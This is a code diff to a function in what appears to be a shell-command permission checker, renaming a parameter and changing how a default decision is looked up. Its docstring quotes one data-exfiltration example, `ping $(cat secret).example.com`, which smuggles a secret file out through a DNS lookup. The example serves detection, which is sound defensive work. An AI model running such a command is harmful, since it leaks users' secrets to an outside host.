@@ -13,17 +13,19 @@ if TYPE_CHECKING:
     from collections.abc import Iterator
 
 
-def beyond(operation: Exec, reading: Reading, snapshot: Snapshot, reach: int) -> "Iterator[Match]":
-    """What a rule that names the first `reach` words does not mean.
+def beyond(
+    operation: Exec, reading: Reading, snapshot: Snapshot, words_named: int
+) -> "Iterator[Match]":
+    """What a rule that names the first `words_named` words does not mean.
 
     That is an option that makes a program run something else, and a word computed by a command,
     where that can carry data out: `ping $(cat secret).example.com`.
     """
-    named = tuple(word for word in operation.argv[:reach] if isinstance(word, str))
+    named = tuple(word for word in operation.argv[:words_named] if isinstance(word, str))
     for cause in reading.effects:
         if is_beyond(cause, reading.effects, named):
             why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
-            decision = snapshot.stance.decide(cause.effect)
+            decision = snapshot.defaults.decide(cause.effect)
             yield Match(
                 "catalogue", decision, why, reading.origin, effects=effects, about=operation.argv
             )
